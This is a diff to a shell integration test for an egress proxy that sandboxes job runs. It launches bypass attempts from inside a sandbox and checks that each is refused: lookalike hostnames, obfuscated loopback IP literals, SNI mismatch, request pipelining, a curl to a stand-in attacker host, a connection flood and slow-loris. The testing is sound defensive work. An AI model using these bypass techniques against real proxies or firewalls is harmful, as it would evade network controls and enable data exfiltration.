@@ -13,20 +13,25 @@ if [ -z "$AGRIPPA_EGRESS_NS" ]; then
 	AGRIPPA_EGRESS_NS=1 exec unshare -n -m --propagation private sh "$0" "$@"
 fi
 . tests/integration/lib.sh
+. tests/integration/git_lib.sh
 need_root egress_proxy
 ip link set lo up
 # the test host's private range: on a dummy interface, or where the kernel
 # has no dummy driver on this namespace's own loopback (still private to it)
 if ip link add dummy0 type dummy 2>/dev/null; then
-	ip addr add 10.77.0.1/24 dev dummy0 && ip link set dummy0 up
+	ip addr add 10.77.0.1/24 dev dummy0 && ip addr add 10.77.0.2/24 dev dummy0 &&
+		ip link set dummy0 up
 else
-	ip addr add 10.77.0.1/24 dev lo
+	ip addr add 10.77.0.1/24 dev lo && ip addr add 10.77.0.2/24 dev lo
 fi
 make_env
-trap 'kill $SRV 2>/dev/null; cleanup_env' EXIT
+trap 'kill $SRV $TLS_PID $DNS_PID 2>/dev/null; stop_git_server; cleanup_env' EXIT
 cat >"$T/hosts" <<EOH
 127.0.0.1 localhost
-10.77.0.1 allowed.test evil-allowed.test
+10.77.0.1 allowed.test evil-allowed.test allowed.test.evil.test denied.test
+10.77.0.2 git.test
+10.78.0.1 out.test
+::1 v6.test
 127.0.0.1 loop.test
 169.254.169.254 meta.test
 EOH
@@ -44,6 +49,63 @@ SRV=$!
 wait_for 10 sh -c "curl -s --noproxy '*' http://10.77.0.1:8080/hello | grep -q hello"
 check "the test host answers inside the test's namespace" [ $? -eq 0 ]
 
+# the TLS test host on 10.77.0.1:443 (tests/fakes/egress_host.py) serving
+# $T/www too, with a throwaway CA the sandbox's clients are given; it logs
+# every connection it accepts, before the handshake
+check "a throwaway CA and a certificate for the test names" \
+	make_ca DNS:allowed.test,DNS:git.test,DNS:denied.test,DNS:evil-allowed.test
+python3 "$ROOT/tests/fakes/egress_host.py" --bind 10.77.0.1 --root "$T/www" \
+	--cert "$T/tls/srv.crt" --key "$T/tls/srv.key" --log "$T/tls.log" \
+	--ready "$T/tls.ready" >"$T/tls.out" 2>&1 &
+TLS_PID=$!
+touch "$T/tls.log"
+check "the TLS test host listens" wait_for 10 test -e "$T/tls.ready"
+# a tiny package index under $T/www/simple with one wheel made here
+mkdir -p "$T/www/simple/tinypkg" "$T/www/packages"
+python3 - "$T/www/packages/tinypkg-0.1-py3-none-any.whl" <<'EOP'
+import sys, zipfile
+files = {
+    "tinypkg/__init__.py": "VERSION = '0.1'\n",
+    "tinypkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
+    "tinypkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+}
+record = "".join(f"{n},,\n" for n in files) + "tinypkg-0.1.dist-info/RECORD,,\n"
+with zipfile.ZipFile(sys.argv[1], "w") as z:
+    for n, t in files.items():
+        z.writestr(n, t)
+    z.writestr("tinypkg-0.1.dist-info/RECORD", record)
+EOP
+printf '<a href="/packages/tinypkg-0.1-py3-none-any.whl">tinypkg-0.1-py3-none-any.whl</a>\n' \
+	>"$T/www/simple/tinypkg/index.html"
+printf '<a href="/simple/tinypkg/">tinypkg</a>\n' >"$T/www/simple/index.html"
+# git.test: the fake git server (git http-backend over TLS) on 10.77.0.2:443
+mkdir -p "$T/srv" && printf '%s\n' gittoken >"$T/srv/token" && chmod 0600 "$T/srv/token"
+"$TOOLS/mkrepo" "$T/gitsrc" >/dev/null && git clone -q --bare "$T/gitsrc" "$T/srv/r.git"
+python3 "$ROOT/tests/fakes/git_https.py" --bind 10.77.0.2 --port 443 --root "$T/srv" \
+	--cert "$T/tls/srv.crt" --key "$T/tls/srv.key" --token-file "$T/srv/token" \
+	--log "$T/git.log" --ports "$T/git.ports" >"$T/git.out" 2>&1 &
+SRV_PID=$!
+check "the git test host listens" wait_for 10 test -s "$T/git.ports"
+
+# the daemon's name server: 10.77.0.1:53 in this namespace, which logs
+# every query and answers NXDOMAIN; a name off the list must never get here
+python3 - "$T/dns.log" >"$T/dns.out" 2>&1 <<'EOP' &
+import socket, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.bind(("10.77.0.1", 53))
+while True:
+    q, peer = u.recvfrom(512)
+    labels, i = [], 12
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode("latin-1"))
+        i += 1 + q[i]
+    with open(sys.argv[1], "a", encoding="utf-8") as f:
+        f.write(".".join(labels) + "\n")
+    u.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:i + 5], peer)
+EOP
+DNS_PID=$!
+printf 'nameserver 10.77.0.1\n' >"$T/resolv.conf" && chmod 0644 "$T/resolv.conf"
+mount --bind "$T/resolv.conf" /etc/resolv.conf
 start_daemon_or_finish egress_proxy
 check "egress is running" [ -n "$(child_pid egress)" ]
 check "egress is chrooted" [ "$(readlink "/proc/$(child_pid egress)/root")" = "$T/empty" ]
@@ -86,7 +148,7 @@ P1=$(psql_q "select id from projects where name = 'p1'")
 J='Content-Type: application/json'
 submit() {
 	RUN=$(curl -s --max-time 10 -H "Authorization: Bearer $TA" -H "$J" \
-		--data-binary "{\"template\": \"$1\", \"params\": {\"repo\": \"clean\"}}" \
+		--data-binary "{\"template\": \"$1\", \"params\": {\"repo\": \"${2:-clean}\"}}" \
 		"http://127.0.0.1:$PORT/v1/projects/$P1/runs" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
 }
 run_status() { psql_q "select status from runs where id = '$1'"; }
@@ -126,6 +188,205 @@ check "without network: no network event" [ "$(psql_q "select count(*) from run_
 st=$("$AGRIPPACTL" -s "$CTL" status)
 check "agrippactl status lists egress running" sh -c "echo '$st' | grep -q '^egress .* running'"
 check "agrippactl status shows the egress line" sh -c "echo '$st' | grep -q '^egress: [0-9]* runs with a network, [0-9]* tunnels open'"
+
+
+# ---- attacks, each from inside a sandbox (tests/tools/egress_probe.py) ----
+git clone -q "$T/repos/clean" "$T/repos/attack"
+cp "$T/tls/ca.crt" "$ROOT/tests/tools/egress_probe.py" "$T/repos/attack/"
+git -C "$T/repos/attack" add ca.crt egress_probe.py
+git -C "$T/repos/attack" -c user.name=t -c user.email=t@t commit -qm attack
+chmod -R a+rX "$T/repos/attack"
+ctl repo add p1 attack "$T/repos/attack" </dev/null
+LIST='network: { allow: [ "allowed.test", "allowed.test:8080", "out.test", "v6.test", "git.test", "nores.test" ] }'
+# steps_tmpl NAME: a template with LIST and one phase of the steps on stdin
+steps_tmpl() {
+	{ printf '%s\nphases:\n  - name: one\n    steps:\n' "$LIST"; cat; } | tmpl "$1"
+}
+steps_tmpl atk <<'EOF'
+      - { id: tls, kind: command, run: "curl -sS --max-time 10 --cacert ca.crt https://allowed.test/hello" }
+      - id: names
+        kind: command
+        allow_failure: true
+        run: |
+          python3 egress_probe.py raw 'CONNECT evil-allowed.test:443 HTTP/1.0\r\n\r\n'
+          python3 egress_probe.py raw 'CONNECT allowed.test.evil.test:443 HTTP/1.0\r\n\r\n'
+      - id: literals
+        kind: command
+        allow_failure: true
+        run: |
+          for t in 127.0.0.1 '[::1]' '[::ffff:127.0.0.1]' 2130706433 0x7f.1; do
+            python3 egress_probe.py raw "CONNECT $t:443 HTTP/1.0\r\n\r\n"
+          done
+      - id: resolved
+        kind: command
+        allow_failure: true
+        run: |
+          curl -sS --max-time 10 --cacert ca.crt https://out.test/hello; echo rc=$?
+          curl -sS --max-time 10 --cacert ca.crt https://v6.test/hello; echo rc=$?
+          curl -sS --max-time 10 --cacert ca.crt https://secret-data.attacker.test/; echo rc=$?
+          curl -sS --max-time 10 --cacert ca.crt https://nores.test/; echo rc=$?
+      - id: heads
+        kind: command
+        allow_failure: true
+        run: |
+          python3 egress_probe.py raw 'GET http://user@evil/ HTTP/1.1\r\nHost: evil\r\n\r\n'
+          python3 egress_probe.py raw 'GET http://allowed.test:8080/hello HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\nGET http://allowed.test:8080/pipelined HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'
+          python3 egress_probe.py raw 'GET http://allowed.test:8080/first HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n' 'GET http://allowed.test:8080/pipelined2 HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'
+          python3 egress_probe.py raw "GET http://allowed.test:8080/big HTTP/1.1\r\nX-Big: $(head -c 17000 /dev/zero | tr '\0' a)\r\n\r\n"
+      - id: tlsdeny
+        kind: command
+        allow_failure: true
+        run: |
+          python3 egress_probe.py raw 'CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n' 'GET /plain HTTP/1.1\r\n\r\n'
+          openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:443 -noservername -CAfile ca.crt </dev/null >/dev/null 2>&1; echo nosni rc=$?
+          curl -sS --max-time 10 --cacert ca.crt --connect-to ::allowed.test: https://denied.test/hello; echo rc=$?
+      - id: dns
+        kind: command
+        allow_failure: true
+        run: "python3 egress_probe.py dns; curl -sS --noproxy '*' --max-time 5 --cacert ca.crt https://10.77.0.1/hello; echo rc=$?"
+EOF
+# run_shown TEMPLATE REPO SECS STEP...: submit it, wait for its end, show
+# the steps' output; RUN names it
+run_shown() {
+	submit "$1" "$2"
+	wait_for "$3" is_done "$RUN"
+	shift 3
+	for s in "$@"; do out "$RUN" "$s" | sed "s/^/# $s: /"; done
+}
+run_shown atk attack 120 names literals resolved heads tlsdeny dns
+R3=$RUN
+check "the attack run ends ($(run_status "$R3"))" [ "$(run_status "$R3")" = succeeded ]
+net "$R3" >"$T/net3"
+sed 's/^/# /' "$T/net3"
+sed 's/^/# tls.log: /' "$T/tls.log"
+check "curl over TLS through the proxy got the page" sh -c "printf '%s' \"\$1\" | grep -q 'hello from allowed.test'" _ "$(out "$R3" tls)"
+denied() { grep -qxF "network.denied $1" "$T/net3"; }
+has() { printf '%s' "$2" | grep -Eq "$1"; }
+check "evil-allowed.test: not on the list" denied "evil-allowed.test:443 not on the list"
+check "allowed.test.evil.test: not on the list" denied "allowed.test.evil.test:443 not on the list"
+check "CONNECT 127.0.0.1:443: denied" denied "127.0.0.1:443 not on the list"
+check "CONNECT [::1]:443: denied" denied "::1:443 not on the list"
+check "CONNECT [::ffff:127.0.0.1]:443: denied" denied "::ffff:127.0.0.1:443 not on the list"
+check "CONNECT 2130706433:443 and 0x7f.1:443: not canonical" \
+	[ "$(grep -cxF 'network.denied :0 a numeric host that is not a canonical dotted-quad IPv4 address' "$T/net3")" = 2 ]
+check "an allowed name resolving to 10.x outside allow_cidrs: denied as private" \
+	denied "out.test:443 resolves to 10.78.0.1:443: private (10.0.0.0/8)"
+check "an allowed name resolving to ::1: denied as loopback" denied "v6.test:443 resolves to [::1]:443: loopback (::1/128)"
+check "a name off the list: denied" denied "secret-data.attacker.test:443 not on the list"
+check "an allowed name the name server does not know: denied" has '^network.denied nores.test:443 the name does not resolve' "$(cat "$T/net3")"
+# (evdns randomises the case of the names it asks for)
+check "the name server was asked for the allowed name only" [ "$(tr A-Z a-z <"$T/dns.log" | sort -u | tr '\n' ' ')" = "nores.test " ]
+check "GET http://user@evil/: user information refused" denied ":0 user information in the URL"
+check "a pipelined second request in the head: refused" \
+	denied ":0 bytes after the request head: one request per connection (pipelining)"
+check "an oversize head: refused" denied ":0 a request head larger than 16 KiB"
+check "an oversize head: answered 431" has '^HTTP/1.1 431' "$(out "$R3" heads)"
+check "plain bytes after CONNECT allowed.test:443: not TLS" denied "allowed.test:443 not a TLS handshake"
+check "a ClientHello without SNI: refused" denied "allowed.test:443 no server_name (SNI) in the ClientHello"
+check "curl --connect-to (SNI denied.test in a CONNECT allowed.test): refused" \
+	denied "allowed.test:443 the TLS server name is not the CONNECT host"
+check "openssl s_client -noservername fails" has 'nosni rc=1' "$(out "$R3" tlsdeny)"
+check "curl with the mismatched SNI fails" has '^rc=35' "$(out "$R3" tlsdeny)"
+check "nothing but the allowed tunnel reached the TLS test host" [ "$(grep -c '^ACCEPT' "$T/tls.log")" = 1 ]
+check "no denied request reached the HTTP test host" \
+	sh -c "! grep -Eq 'GET /(pipelined|big|plain)' '$T/www.log'"
+check "no DNS in the sandbox: a lookup fails" has 'lookup: failed' "$(out "$R3" dns)"
+check "no DNS in the sandbox: a UDP query has no route" has 'udp: failed: .*unreachable' "$(out "$R3" dns)"
+check "a direct TLS connection bypassing the proxy fails" has '^rc=7' "$(out "$R3" dns)"
+
+# ---- real clients: git clone and pip download ----
+steps_tmpl tools <<'EOF'
+      - { id: git, kind: command, run: "git -c http.sslCAInfo=/workspace/ca.crt clone -q https://x-access-token:gittoken@git.test/r.git /workspace/cl && git -C /workspace/cl log --oneline" }
+      - { id: pip, kind: command, run: "python3 -m pip download --no-cache-dir --disable-pip-version-check --no-deps --cert /workspace/ca.crt --index-url https://allowed.test/simple/ -d /workspace/dl tinypkg && ls /workspace/dl" }
+EOF
+run_shown tools attack 120 git pip
+R4=$RUN
+check "git clone and pip download through the proxy ($(run_status "$R4"))" [ "$(run_status "$R4")" = succeeded ]
+check "git cloned the test host's repository" has first "$(out "$R4" git)"
+check "pip downloaded the wheel" has 'tinypkg-0.1-py3-none-any.whl' "$(out "$R4" pip)"
+
+# ---- kill -9 of egress mid-transfer ----
+steps_tmpl slow <<'EOF'
+      - id: slow
+        kind: command
+        run: |
+          curl -sS --max-time 60 --cacert ca.crt -o /workspace/slow.out https://allowed.test/slow; echo slow rc=$?
+          for i in $(seq 30); do curl -sS --max-time 5 --cacert ca.crt https://allowed.test/hello && break; sleep 1; done
+EOF
+submit slow attack
+R5=$RUN
+EG1=""
+wait_for 60 grep -q "^GET.*/slow" "$T/tls.log" && sleep 1 && EG1=$(child_pid egress)
+check "a slow transfer is in flight" [ -n "$EG1" ]
+kill -9 "$EG1"
+egress_changed() { p=$(child_pid egress); [ -n "$p" ] && [ "$p" != "$EG1" ]; }
+wait_for 30 egress_changed
+EG2=$(child_pid egress)
+check "egress comes back after kill -9 ($EG1 -> $EG2)" sh -c '[ -n "$1" ] && [ "$1" != "$2" ]' _ "$EG2" "$EG1"
+wait_for 90 is_done "$R5"
+out "$R5" slow | sed 's/^/# slow: /'
+check "the transfer in flight saw a broken connection" sh -c "printf '%s' \"\$1\" | grep 'slow rc=' | grep -qv 'rc=0'" _ "$(out "$R5" slow)"
+check "the next connection from the same sandbox works" has 'hello from allowed.test' "$(out "$R5" slow)"
+
+# ---- limits: 1,000 parallel CONNECTs, a slow-loris head ----
+steps_tmpl flood <<'EOF'
+      - { id: flood, kind: command, run: "python3 egress_probe.py flood 1000 /workspace" }
+      - { id: loris, kind: command, run: "python3 egress_probe.py loris" }
+      - { id: lorishello, kind: command, run: "python3 egress_probe.py loris-hello" }
+EOF
+steps_tmpl other <<'EOF'
+      - { id: get, kind: command, run: "curl -fsS --max-time 10 http://allowed.test:8080/hello" }
+EOF
+A0=$(grep -c '^ACCEPT' "$T/tls.log")
+submit flood attack
+R6=$RUN
+# the flood's run holds its tunnels until the test releases them
+check "the flood's run holds its tunnels" wait_for 120 test -e "$(run_ws "$R6")/held"
+st=$("$AGRIPPACTL" -s "$CTL" status)
+echo "$st" | sed 's/^/# status: /'
+# (status counts the tunnels whose network.allowed was reported: the rate
+# limit may have suppressed some of the 8 behind the flood's refusals)
+check "status shows open tunnels" has '^egress: [0-9]* runs with a network, [1-9][0-9]* tunnels open' "$st"
+submit other
+R7=$RUN
+wait_for 60 is_done "$R7"
+check "another run's tunnel works while they are held ($(run_status "$R7"))" [ "$(run_status "$R7")" = succeeded ]
+touch "$(run_ws "$R6")/release"
+wait_for 120 is_done "$R6"
+out "$R6" flood | sed 's/^/# flood: /'
+out "$R6" loris | sed 's/^/# loris: /'
+out "$R6" lorishello | sed 's/^/# lorishello: /'
+check "1,000 CONNECTs from one run: tunnels_per_run (8) held, the rest refused" \
+	has '^ok=8 refused=992' "$(out "$R6" flood)"
+check "the refusals name the tunnel limit" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the run''s tunnel limit (egress.tunnels_per_run) is reached'")" -ge 1 ]
+check "egress survived the flood" [ "$(child_pid egress)" = "$EG2" ]
+check "a slow-loris head is answered 408" has '^HTTP/1.1 408' "$(out "$R6" loris)"
+check "a slow-loris head is closed at the head timeout (10 s)" has 'closed after (10|11|12)s' "$(out "$R6" loris)"
+check "a ClientHello trickled after CONNECT :443 is closed at the head timeout" has 'closed after (10|11|12)s' "$(out "$R6" lorishello)"
+check "the trickled ClientHello never reached the TLS test host" [ "$(grep -c '^ACCEPT' "$T/tls.log")" = "$A0" ]
+check "its refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the TLS ClientHello did not come in time'")" = 1 ]
+check "the slow-loris refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the request head did not come in time'")" = 1 ]
+
+# ---- a preset the configuration lacks fails the run at its start ----
+tmpl nopreset <<'EOF' || true
+network: { presets: [ nosuch ] }
+phases:
+  - name: one
+    steps:
+      - { id: look, kind: command, run: "true" }
+EOF
+sed 's/^/# load: /' "$T/ctl.out"
+submit nopreset
+R8=$RUN
+wait_for 60 is_done "$R8"
+psql_q "select type || ' ' || payload::text from run_events where run_id = '$R8' order by seq" | sed 's/^/# nopreset: /'
+check "a run naming a missing preset fails ($(run_status "$R8"))" [ "$(run_status "$R8")" = failed ]
+check "its failure names the preset" [ "$(psql_q "select count(*) from run_events where run_id = '$R8' and payload::text like '%no preset nosuch in egress.presets%'")" -ge 1 ]
+check "no step of it ran" [ "$(psql_q "select count(*) from run_events where run_id = '$R8' and type = 'step.started'")" = 0 ]
+# the events land in the order egress reported them: no run's network.closed
+# before the network.allowed of its tunnel
+psql_q "select run_id, seq, type, payload::text from (select *, sum(case type when 'network.allowed' then 1 when 'network.closed' then -1 else 0 end) over (partition by run_id order by seq) as open from run_events where type like 'network.%') x where open < 0 limit 5" | sed 's/^/# out of order: /'
+check "no network.closed is stored before its network.allowed" [ "$(psql_q "select count(*) from (select sum(case type when 'network.allowed' then 1 when 'network.closed' then -1 else 0 end) over (partition by run_id order by seq) as open from run_events where type like 'network.%') x where open < 0")" = 0 ]
 
 stop_daemon
 check "the daemon stops cleanly" [ "$DAEMON_STATUS" -eq 0 ]
